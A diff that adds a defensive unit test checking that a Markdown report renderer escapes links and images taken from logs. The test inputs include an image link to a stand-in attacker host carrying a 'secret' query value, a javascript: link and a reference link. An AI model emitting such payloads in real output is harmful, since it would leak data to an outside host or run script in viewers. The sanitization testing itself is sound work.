@@ -104,6 +104,16 @@ def test_markdown_escape_keeps_the_text():
     assert md_text("C:\\path") == "C:\\path"  # a backslash before a letter is literal in Markdown
 
 
+def test_markdown_links_and_images_from_logs_stay_text():
+    # An image is fetched by the viewer as soon as the report is opened: exfiltration.
+    for value in ("![x](https://evil.example/?q=secret)", "[click](javascript:alert(1))",
+                  "[a]: https://evil.example/ref"):
+        # A code fence (the chart) renders no links; everything outside it must be text.
+        md = re.sub(r"```.*?```", "", blocks_markdown(_blocks(value)), flags=re.S)
+        assert "](" not in md.replace("\\](", "") and "![" not in md, md
+        assert re.search(r"(?<!\\)\[", md.replace("- [ ]", "")) is None, md
+
+
 def test_markdown_list_items_stay_items():
     md = blocks_markdown([Note(items=["a\n# not a heading", "b"], marker="- [ ]")])
     assert md == "- [ ] a<br># not a heading\n- [ ] b\n"
